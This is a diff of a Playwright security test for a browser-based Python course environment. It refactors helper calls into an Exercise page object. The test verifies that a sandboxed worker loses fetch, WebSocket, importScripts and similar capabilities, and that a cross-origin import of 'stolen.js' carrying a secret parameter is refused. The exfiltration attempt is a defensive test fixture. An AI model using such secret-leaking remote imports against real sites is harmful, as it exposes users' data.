@@ -12,7 +12,8 @@ from course_build.headers import header_rules
 from tools.site_server import serve
 
 from .conftest import wait_for_python, wait_until
-from .helpers import LEVEL, check, exercise, open_skip_test, other_origin
+from .helpers import LEVEL, check, open_skip_test, other_origin
+from .pages import Exercise
 
 POWERS = ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "WebTransport", "caches", "indexedDB",
           "importScripts", "Worker", "SharedWorker", "BroadcastChannel", "FontFace"]
@@ -90,8 +91,7 @@ def test_the_worker_drops_its_powers_once_python_is_up(browser, built, listener)
     outcome = worker.evaluate(f"import({origin + '/stolen.js?secret=1'!r}).then(() => 'loaded', (e) => 'refused')")
     assert outcome == "refused"
     assert hits == []
-    ex = exercise(page, "quiz-sub-backward")  # and Python still works
-    expect(check(ex)).not_to_contain_text("Python could not start")
+    expect(Exercise(page, "quiz-sub-backward").check()).not_to_contain_text("Python could not start")  # still works
     assert page.evaluate("window.__coursePython.cspViolations.length") >= 1  # the refused import()
     assert page.errors == []
     context.close()
